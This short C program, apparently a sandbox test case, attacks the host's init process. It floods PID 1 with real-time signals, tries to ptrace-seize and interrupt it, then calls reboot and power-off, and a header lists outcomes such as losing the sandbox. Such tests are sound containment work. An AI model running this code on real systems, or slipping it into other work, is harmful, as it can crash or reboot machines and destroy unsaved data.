/*
 * Attack: ends PID 1 of its machine: reboots it, traces it to its death, fills its signals.
 * Outcome: fail/sandbox-lost fail/other fail/crashed
 */
#define _GNU_SOURCE
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/reboot.h>
#include <unistd.h>

int main(void)
{
	for (int i = 0; i < 20000; i++)
		sigqueue(1, SIGRTMIN + i % 20, (union sigval){.sival_int = i});
	if (ptrace(PTRACE_SEIZE, 1, 0, PTRACE_O_EXITKILL) == 0)
		ptrace(PTRACE_INTERRUPT, 1, 0, 0);
	reboot(RB_AUTOBOOT);
	reboot(RB_POWER_OFF);
	return 1;
}
